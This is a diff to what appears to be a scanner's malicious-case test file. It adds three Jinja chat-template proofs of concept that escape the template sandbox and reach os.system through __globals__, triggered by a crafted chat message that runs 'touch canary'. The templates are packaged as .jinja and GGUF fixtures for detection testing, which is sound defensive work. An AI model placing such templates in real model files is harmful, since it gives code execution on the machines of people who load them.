@@ -521,6 +521,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round10_cases())  # red team round 10 on chat templates (block at the end of this file)
     cases.extend(template_round11_cases())  # red team round 11 on chat templates (block at the end of this file)
     cases.extend(template_round12_cases())  # red team round 12 on chat templates (block at the end of this file)
+    cases.extend(template_round15_cases())  # red team round 15 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1721,3 +1722,33 @@ def round16_cases() -> list[Case]:
              "torch", CRIT, "manycd.pt", many_entries()),
     ]
 # ======== END red team round 16 =========================================================================
+# ======== BEGIN red team round 15 on chat templates (helper tpl15) =====================================
+# tests/test_templates_round15.py. Each PoC hides d = messages[-1] (or its bound update) from the mutation analysis,
+# then round 13's body (namespace(count=d.update), c1.sort(key=d.update)) and chat-keyed hops to os.system: b1 through
+# |truncate (returns a short dict itself), b6 through a dotted attribute path map(attribute='0.update'), b7 through
+# dd.k.append(v) stored under a pooled namespace key while dd is a dict. (Classes D and E change the caller's
+# messages/tools and run nothing: they are in the test file, not here, since fire.py checks a canary.)
+TEMPLATE_ROUND15_B1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set d = (messages|last)|truncate -%}\n{%- set h = namespace(count=d.update) -%}{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.update) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND15_B6 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set k = [[messages|last]]|map(attribute='0.update')|first -%}\n{%- set c1 = [] -%}{%- set _ = c1.append({'fn': {'count': k}}) -%}{%- if c1.sort(key=k) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': lipsum}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND15_B7 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set z = namespace(k=none) -%}{%- set l = [] -%}{%- set dd = {'k': l} -%}{%- for v in [messages|last] %}{% if dd.k.append(v) %}{% endif %}{% endfor -%}{%- set d = l[0] -%}\n{%- set h = namespace(count=d.update) -%}{%- set c1 = [{'fn': h, 'content': lipsum}] -%}{%- if c1.sort(key=d.update) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND15_CHAT = json.dumps(
+    {"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary|update"}]})
+_ROUND15 = {
+    "b1": ("A", "(messages|last)|truncate: a short dict comes back as itself"),
+    "b6": ("B", "[[messages|last]]|map(attribute='0.update')|first: a dotted path to a mutating method"),
+    "b7": ("C", "dd.k.append(v) with dd a dict, stored under the pooled namespace key .k"),
+}
+
+
+def template_round15_cases() -> list[Case]:
+    """Round 15 on chat templates: the three code-running PoCs as .jinja and as GGUF, fired by fire.py's render."""
+    cases = []
+    for name, (cls, how) in _ROUND15.items():
+        text = globals()[f"TEMPLATE_ROUND15_{name.upper()}"].encode()
+        cases.append(Case(f"template_r15_{name}", "5", f"class {cls}: {how}, then round 13's body and chat-keyed hops "
+                          "to os.system (fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", text,
+                          chat=TEMPLATE_ROUND15_CHAT))
+        cases.append(Case(f"gguf_template_r15_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
+                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
+    return cases
+# ======== END red team round 15 on chat templates =======================================================
